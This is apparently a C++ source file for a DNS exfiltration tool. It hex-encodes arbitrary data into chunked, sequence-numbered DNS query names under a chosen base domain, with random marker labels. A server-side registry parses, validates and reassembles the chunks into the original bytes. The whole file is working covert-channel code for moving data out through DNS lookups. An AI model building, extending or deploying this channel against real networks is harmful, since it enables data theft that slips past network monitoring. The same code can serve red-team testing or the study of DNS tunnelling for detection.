#include "dnsexfil/exfil_codec.hpp"

#include <algorithm>
#include <cstdio>

namespace dnsexfil::codec {

namespace {

constexpr char hex_digits[] = "0123456789abcdef";
constexpr std::string_view marker_first = "abcdefghijklmnopqrstuvwxyz";
constexpr std::string_view marker_rest = "abcdefghijklmnopqrstuvwxyz0123456789";

int hex_value(char c) {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
}

bool is_lower_hex(std::string_view s) {
    return std::all_of(s.begin(), s.end(), [](char c) {
        return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
    });
}

std::string seq_label(std::uint32_t index, std::uint32_t total) {
    char buf[16];
    std::snprintf(buf, sizeof buf, "%04x%04x", index & 0xffff, total & 0xffff);
    return buf;
}

} // namespace

std::string hex_encode(std::span<const std::uint8_t> data) {
    std::string out;
    out.reserve(data.size() * 2);
    for (std::uint8_t b : data) {
        out.push_back(hex_digits[b >> 4]);
        out.push_back(hex_digits[b & 0x0f]);
    }
    return out;
}

std::vector<std::uint8_t> hex_decode(std::string_view hex) {
    if (hex.size() % 2 != 0) throw OddLength("hex string has odd length");
    std::vector<std::uint8_t> out;
    out.reserve(hex.size() / 2);
    for (std::size_t i = 0; i < hex.size(); i += 2) {
        int hi = hex_value(hex[i]);
        int lo = hex_value(hex[i + 1]);
        if (hi < 0 || lo < 0) {
            throw NonHexCharacter("not a hex digit at position " + std::to_string(hi < 0 ? i : i + 1));
        }
        out.push_back(static_cast<std::uint8_t>(hi << 4 | lo));
    }
    return out;
}

MarkerPair new_marker_pair(Rng& rng) {
    auto draw = [&rng]() {
        std::string s;
        s.reserve(FrameBudget::marker_chars);
        s.push_back(marker_first[rng.below(static_cast<std::uint32_t>(marker_first.size()))]);
        for (std::size_t i = 1; i < FrameBudget::marker_chars; ++i) {
            s.push_back(marker_rest[rng.below(static_cast<std::uint32_t>(marker_rest.size()))]);
        }
        return s;
    };
    MarkerPair pair;
    pair.prefix = draw();
    pair.suffix = draw();
    while (pair.suffix == pair.prefix) pair.suffix = draw();
    return pair;
}

bool is_marker_token(std::string_view s) {
    if (s.size() != FrameBudget::marker_chars) return false;
    if (s[0] < 'a' || s[0] > 'z') return false;
    return std::all_of(s.begin() + 1, s.end(), [](char c) {
        return (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9');
    });
}

FrameBudget::FrameBudget(wire::DomainName base_domain) : base_(std::move(base_domain)) {
    // Presentation chars left for hex labels and the dots between them:
    // the frame-name cap minus "prefix." (9), "seq." (9), "suffix." (9),
    // the dot before the base domain (1), and the base domain itself.
    constexpr std::size_t fixed = marker_chars + 1 + seq_chars + 1 + marker_chars + 1 + 1;
    std::size_t base_len = base_.presentation_length();
    if (base_len + fixed >= max_frame_name) {
        hex_chars_ = 0;
        return;
    }
    std::size_t avail = max_frame_name - fixed - base_len;
    // A full label slot is 63 chars plus its separating dot; the last label
    // needs no trailing dot, hence the +1.
    std::size_t full_slots = (avail + 1) / (max_label + 1);
    std::size_t hex = full_slots >= 1 ? full_slots * max_label : avail;
    hex_chars_ = hex & ~static_cast<std::size_t>(1);
}

std::vector<wire::DomainName> build_frames(std::span<const std::uint8_t> data,
                                           const MarkerPair& markers,
                                           const FrameBudget& budget) {
    const std::size_t cap = budget.frame_hex_chars();
    if (cap == 0) throw BaseDomainTooLong("base domain leaves no payload capacity");

    std::string hex = hex_encode(data);
    std::size_t total = hex.empty() ? 1 : (hex.size() + cap - 1) / cap;
    if (total > 0xffff) throw TooManyFrames("payload needs " + std::to_string(total) + " frames");

    std::vector<wire::DomainName> names;
    names.reserve(total);
    for (std::size_t i = 0; i < total; ++i) {
        std::vector<std::string> labels;
        labels.push_back(markers.prefix);
        labels.push_back(seq_label(static_cast<std::uint32_t>(i), static_cast<std::uint32_t>(total)));
        std::string_view chunk = std::string_view(hex).substr(i * cap, cap);
        for (std::size_t off = 0; off < chunk.size(); off += FrameBudget::max_label) {
            labels.emplace_back(chunk.substr(off, FrameBudget::max_label));
        }
        labels.push_back(markers.suffix);
        for (const auto& l : budget.base_domain().labels()) labels.push_back(l);
        names.push_back(wire::DomainName::from_labels(std::move(labels)));
    }
    return names;
}

std::optional<ExfilFrame> parse_frame(const wire::DomainName& name, const FrameBudget& budget) {
    wire::DomainName folded = name.lowered();
    const auto& base = budget.base_domain();
    if (!folded.ends_with(base)) return std::nullopt;

    const auto& labels = folded.labels();
    std::size_t inner = labels.size() - base.label_count();
    if (inner < 3) return std::nullopt; // prefix, seq, suffix at minimum

    const std::string& prefix = labels[0];
    const std::string& seq = labels[1];
    const std::string& suffix = labels[inner - 1];
    if (!is_marker_token(prefix) || !is_marker_token(suffix) || prefix == suffix) {
        return std::nullopt;
    }
    if (seq.size() != FrameBudget::seq_chars || !is_lower_hex(seq)) return std::nullopt;

    std::uint32_t index = 0;
    std::uint32_t total = 0;
    for (std::size_t i = 0; i < 4; ++i) index = index << 4 | static_cast<std::uint32_t>(hex_value(seq[i]));
    for (std::size_t i = 4; i < 8; ++i) total = total << 4 | static_cast<std::uint32_t>(hex_value(seq[i]));
    if (total < 1 || index >= total) return std::nullopt;

    std::string payload;
    for (std::size_t i = 2; i + 1 < inner; ++i) {
        if (!is_lower_hex(labels[i])) return std::nullopt;
        payload += labels[i];
    }
    if (payload.size() % 2 != 0) return std::nullopt;

    ExfilFrame frame;
    frame.markers = MarkerPair{prefix, suffix};
    frame.seq_index = index;
    frame.seq_total = total;
    frame.payload_hex = std::move(payload);
    return frame;
}

std::optional<CompletedItem> SessionRegistry::ingest(const ExfilFrame& frame, Timestamp now) {
    auto [it, inserted] = sessions_.try_emplace(frame.markers);
    Session& s = it->second;
    if (inserted) {
        s.total = frame.seq_total;
        s.created = now;
    } else if (s.total != frame.seq_total) {
        sessions_.erase(it);
        throw ConflictingChunk("frame total disagrees with open session");
    }
    s.last_seen = now;

    auto [chunk_it, fresh] = s.chunks.try_emplace(frame.seq_index, frame.payload_hex);
    if (!fresh && chunk_it->second != frame.payload_hex) {
        throw ConflictingChunk("same marker and index with different payload");
    }

    if (s.chunks.size() < s.total) return std::nullopt;

    std::string hex;
    for (const auto& [idx, chunk] : s.chunks) hex += chunk;
    CompletedItem item{it->first, hex_decode(hex)};
    sessions_.erase(it);
    return item;
}

std::optional<SessionProgress> SessionRegistry::progress(const MarkerPair& markers) const {
    auto it = sessions_.find(markers);
    if (it == sessions_.end()) return std::nullopt;
    return SessionProgress{static_cast<std::uint32_t>(it->second.chunks.size()), it->second.total};
}

AbandonedSession SessionRegistry::abandon(const MarkerPair& markers, const Session& s) {
    return AbandonedSession{markers, static_cast<std::uint32_t>(s.chunks.size()), s.total, s.created};
}

std::vector<AbandonedSession> SessionRegistry::expire_idle_since(Timestamp cutoff) {
    std::vector<AbandonedSession> dropped;
    for (auto it = sessions_.begin(); it != sessions_.end();) {
        if (it->second.last_seen < cutoff) {
            dropped.push_back(abandon(it->first, it->second));
            it = sessions_.erase(it);
        } else {
            ++it;
        }
    }
    return dropped;
}

std::vector<AbandonedSession> SessionRegistry::drain() {
    std::vector<AbandonedSession> dropped;
    dropped.reserve(sessions_.size());
    for (const auto& [markers, s] : sessions_) dropped.push_back(abandon(markers, s));
    sessions_.clear();
    return dropped;
}

} // namespace dnsexfil::codec
